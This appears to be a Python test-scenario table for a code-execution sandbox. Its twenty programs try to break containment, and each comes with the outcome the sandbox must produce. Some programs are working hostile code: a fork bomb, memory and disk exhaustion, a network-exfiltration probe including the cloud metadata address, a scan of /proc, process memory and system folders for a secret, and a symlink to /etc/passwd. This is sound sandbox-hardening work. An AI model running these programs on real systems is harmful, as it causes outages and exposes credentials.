"""The scenarios: for each a program, what it promises, and how it must end.

This table is the whole truth about them: the workflow runs it, `isorun scenario` prints
it, and the test suite holds every run to it. A program that gets out of its walls
prints a line that begins with GOT. It is long because its twenty programs are. The comparison itself is in verdicts.py.
"""

import re
from typing import Any

from .verdicts import NOTE, Expected, OnOwnKernel, Scenario

_PICK = re.compile(r"\s*(?:scenario\s+)?([0-9]{1,3})(?:[.):](?:\s.*)?)?\s*", re.IGNORECASE | re.DOTALL)


_FORK_BOMB_ENDS_KERNEL = OnOwnKernel(
    endings=tuple(
        Expected(status=status, code=code, missing=1, comm_error=erred, says=("forking",))
        for status, code in (("killed", "signal"), ("out_of_memory", "out_of_memory"))
        for erred in (False, True)
    ),
    why="a fork bomb ends the kernel that it runs on, its own, and with it the run",
)


def pick(text: str) -> Scenario | None:
    """The scenario that *text* names: `3`, `3.`, `scenario 3`, or its follow-up; None for anything else."""
    found = _PICK.fullmatch(text)
    return SCENARIOS.get(int(found[1])) if found else None


_WRITE = """
target = Path(OUTPUT_DIR, TURN_ID, "files", "hello-iso-runtime.txt")
target.write_text("hello from iso-runtime\\n")
"""

_HAPPY = (
    _WRITE
    + """
await agent_io_tools.tool_call(
    fn=local_tools.write_note,
    params={"text": "note from iso-runtime"},
    call_reason="Write a simple note file",
    tool_id="local_tools.write_note",
)
print("wrote a file and a note")
"""
)

_BUSY = """
while True:
    pass
"""

_PRINTS_THEN_BUSY = """
print("about to work very hard")
while True:
    pass
"""

_RAISES = """
raise RuntimeError("this program always fails")
"""

_ONE_OF_TWO = """
Path(OUTPUT_DIR, TURN_ID, "files", "first.txt").write_text("the first of two\\n")
print("and the second is forgotten")
"""

_ALLOCATES = """# Takes memory until there is no more.
held = []
while True:
    held.append(bytearray(b"x") * (64 << 20))  # written to, so that the memory is really there
    print(f"{len(held) * 64} MiB")
"""

_RECURSES = """
def deeper(n):
    return deeper(n + 1) + 1

deeper(0)
"""

_SLEEPS = """
time.sleep(999)
"""

_PRINTS_FOR_EVER = """
print("this line is kept")
n = 0
while True:
    n += 1
"""

_PRINTS_THEN_RAISES = """
print("this was printed before the end")
raise ValueError("and this is the end")
"""

_LOGS = (
    _WRITE
    + """
log = logging.getLogger("user")
log.info("hello from program")
log.error("something went wrong, and the program goes on")
"""
)

_WRITES_THEN_RAISES = (
    _WRITE
    + """
raise RuntimeError("after the file was written")
"""
)

_SIDE_EFFECTS = """
files = Path(OUTPUT_DIR, TURN_ID, "files")
(files / "one.txt").write_text("1\\n")
(files / "two.txt").write_text("2\\n")
print("wrote two files, no error found, 0 ERROR")  # which is none
"""

_NETWORK = """# Tries to send something out: by name, by address, by raw packets; then gives up.
import socket, urllib.request

attempts = {
    "a name": lambda: socket.getaddrinfo("example.org", 443),
    "an address": lambda: socket.create_connection(("1.1.1.1", 53), timeout=2),
    "a packet": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("1.1.1.1", 53)),
    "the metadata address": lambda: socket.create_connection(("169.254.169.254", 80), timeout=2),
    "this host's loopback": lambda: socket.create_connection(("127.0.0.1", 22), timeout=2),
    "raw frames": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
}
for what, attempt in attempts.items():
    try:
        attempt()
        print(f"GOT OUT by {what}")
    except OSError as error:
        print(f"blocked: {what}: {error}")
urllib.request.urlopen("https://example.org/?stolen=secret", timeout=2)
"""

_SECRETS = """
import hashlib, re

digest = await agent_io_tools.tool_call(
    tool_id="probe_tools.secret_digest", params={}, call_reason="Know the secret when it is met"
)
pattern = re.compile(rb"isorun-canary-[0-9a-f]{32}")
looked = 0


def look(place, data):
    global looked
    looked += 1
    for token in pattern.findall(data):
        if hashlib.sha256(token).hexdigest() == digest:
            print(f"GOT the supervisor's secret in {place}")


look("the environment", "\\0".join(os.environ.values()).encode())
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps"):
        try:
            look(f"/proc/{pid}/{name}", Path(f"/proc/{pid}/{name}").read_bytes())
        except OSError:
            pass
try:  # the memory that this process was forked with
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("rw"):
                try:
                    memory.seek(first)
                    look("its own memory", memory.read(min(last - first, 64 << 20)))
                except (OSError, OverflowError):
                    pass
except OSError:
    pass
packages = {sys.prefix, sys.base_prefix, *sys.path} - {"/workspace/work"}  # the interpreter's own, wherever it lies
for top in ("/etc", "/home", "/root", "/run", "/var", "/tmp", "/dev/shm", "/workspace"):
    for folder, below, names in os.walk(top):
        below[:] = [name for name in below if os.path.join(folder, name) not in packages]
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path):
                    with open(path, "rb") as file:
                        look(path, file.read(1 << 20))
            except OSError:
                pass
print(f"looked in {looked} places for the supervisor's secret")
Path(OUTPUT_DIR, TURN_ID, "files", "hello-iso-runtime.txt").write_text(f"{looked} places\\n")
"""

_FORK_BOMB = """# Every process becomes two, for ever.
import signal

first = os.getpid()
print("forking")
while True:
    try:
        os.fork()
    except OSError:
        if os.getpid() == first:
            raise
        signal.pause()  # hold the place: nobody else shall have it
"""

_SYMLINK = """
os.symlink("/etc/passwd", Path(OUTPUT_DIR, TURN_ID, "files", "hello-iso-runtime.txt"))
print("promised a file, left a link to /etc/passwd")
"""

_DENIED = """
said = []
for tool in ("probe_tools.read_secret", "no_such.tool", "exec_tools.execute_code_python"):
    try:
        print("GOT", await agent_io_tools.tool_call(tool_id=tool, params={}, call_reason="Try what was not granted"))
    except agent_io_tools.ToolDenied as error:
        said.append(f"{tool}: {error}")
print(*said, sep="\\n")
Path(OUTPUT_DIR, TURN_ID, "files", "hello-iso-runtime.txt").write_text("\\n".join(said))
"""

_TOO_SLOW = """
try:
    await agent_io_tools.tool_call(
        tool_id="probe_tools.slow_answer", params={"seconds": 60}, call_reason="Wait longer than is allowed"
    )
except agent_io_tools.ToolTimeout as error:
    print("ToolTimeout:", error)
    Path(OUTPUT_DIR, TURN_ID, "files", "hello-iso-runtime.txt").write_text(str(error))
"""

_DISK = """# Writes files until the disk is full.
number = 0
while True:
    number += 1
    Path(OUTPUT_DIR, f"junk-{number}").write_bytes(bytes(32 << 20))
    print(f"{number * 32} MiB")
"""


def _failed(**more: Any) -> Expected:
    return Expected(status="failed", code="program_error", comm_error=True, **more)


def _late(**more: Any) -> Expected:
    return Expected(status="timed_out", code="timeout", missing=1, because="exceeded its timeout of 3 s", **more)


def _ok(**more: Any) -> Expected:
    return Expected(status="ok", succeeded=1, **more)


_DENIED_CALLS = ("probe_tools.read_secret", "no_such.tool", "exec_tools.execute_code_python")

SCENARIOS: dict[int, Scenario] = {
    scenario.number: scenario
    for scenario in (
        Scenario(
            number=0,
            title="Happy path: a file and a note",
            program=_HAPPY,
            expected=_ok(notes=1, calls=((NOTE, "ok"),), says=("wrote a file and a note",)),
        ),
        Scenario(number=1, title="Busy loop, no output", program=_BUSY, timeout_s=3.0, expected=_late()),
        Scenario(
            number=2,
            title="Print, then a busy loop",
            program=_PRINTS_THEN_BUSY,
            timeout_s=3.0,
            expected=_late(says=("about to work very hard",)),
        ),
        Scenario(
            number=3,
            title="Raise",
            program=_RAISES,
            expected=_failed(missing=1, says=("Traceback", "RuntimeError: this program always fails")),
        ),
        Scenario(
            number=4,
            title="One of two promised files",
            program=_ONE_OF_TWO,
            promises=("first.txt", "second.txt"),
            expected=Expected(
                status="contract_failed", code="missing_output_files", succeeded=1, missing=1, because="second.txt"
            ),
        ),
        Scenario(
            number=5,
            title="Allocate until the memory limit",
            program=_ALLOCATES,
            timeout_s=30.0,  # a gigabyte of pages takes a second, on a busy machine several
            expected=Expected(
                status="out_of_memory", code="out_of_memory", missing=1, comm_error=None, says=("256 MiB",)
            ),
        ),
        Scenario(
            number=6,
            title="Infinite recursion",
            program=_RECURSES,
            expected=_failed(missing=1, says=("RecursionError",)),
        ),
        Scenario(number=7, title="Sleep for 999 seconds", program=_SLEEPS, timeout_s=3.0, expected=_late()),
        Scenario(
            number=8,
            title="Print, then loop for ever",
            program=_PRINTS_FOR_EVER,
            timeout_s=3.0,
            expected=_late(says=("this line is kept",)),
        ),
        Scenario(
            number=9,
            title="Print, then raise",
            program=_PRINTS_THEN_RAISES,
            expected=_failed(missing=1, says=("this was printed before the end", "ValueError: and this is the end")),
        ),
        Scenario(
            number=10,
            title="A good file, and ERROR in the log",
            program=_LOGS,
            expected=_ok(comm_error=True, says=("INFO user hello from program", "ERROR user something went wrong")),
        ),
        Scenario(
            number=11,
            title="Write the file, then raise",
            program=_WRITES_THEN_RAISES,
            expected=_failed(succeeded=1, says=("RuntimeError: after the file was written",)),
        ),
        Scenario(
            number=12,
            title="Two files, no contract",
            program=_SIDE_EFFECTS,
            promises=(),
            mode="side effects",
            expected=Expected(status="ok", created=2, says=("no error found, 0 ERROR",)),
        ),
        Scenario(
            number=13,
            title="Network probe",
            program=_NETWORK,
            expected=_failed(
                missing=1,
                because="the program has no network",
                says=("blocked: a name", "blocked: an address", "blocked: the metadata address", "blocked: raw frames"),
            ),
        ),
        Scenario(
            number=14,
            title="Look for the supervisor's secret",
            program=_SECRETS,
            tools=("probe_tools.secret_digest",),
            expected=_ok(calls=(("probe_tools.secret_digest", "ok"),), says=("places for the supervisor's secret",)),
        ),
        Scenario(
            number=15,
            title="Fork bomb",
            program=_FORK_BOMB,
            expected=Expected(
                status="limit_exceeded", code="process_limit", missing=1, comm_error=True, says=("forking",)
            ),
            on_own_kernel=_FORK_BOMB_ENDS_KERNEL,
        ),
        Scenario(
            number=16,
            title="A link in place of the file",
            program=_SYMLINK,
            expected=Expected(
                status="contract_failed",
                code="artifact_validation_failed",
                item_codes=("artifact_symlink_blocked",),
                because="is a symbolic link",
            ),
        ),
        Scenario(
            number=17,
            title="A tool that was not granted",
            program=_DENIED,
            expected=_ok(
                calls=tuple((tool, "ToolDenied") for tool in _DENIED_CALLS),
                says=(
                    "probe_tools.read_secret: no such tool for this run",
                    "no_such.tool: no such tool for this run",
                    "nested_execution",
                ),
            ),
        ),
        Scenario(
            number=18,
            title="A tool that times out",
            program=_TOO_SLOW,
            tools=("probe_tools.slow_answer",),
            expected=_ok(calls=(("probe_tools.slow_answer", "ToolTimeout"),), says=("ToolTimeout:",)),
        ),
        Scenario(
            number=19,
            title="Fill the disk",
            program=_DISK,
            expected=Expected(
                status="limit_exceeded",
                code="workspace_limit",
                missing=1,
                comm_error=True,
                says=("32 MiB",),
                because="no space left",
                synced=False,
            ),
        ),
    )
}
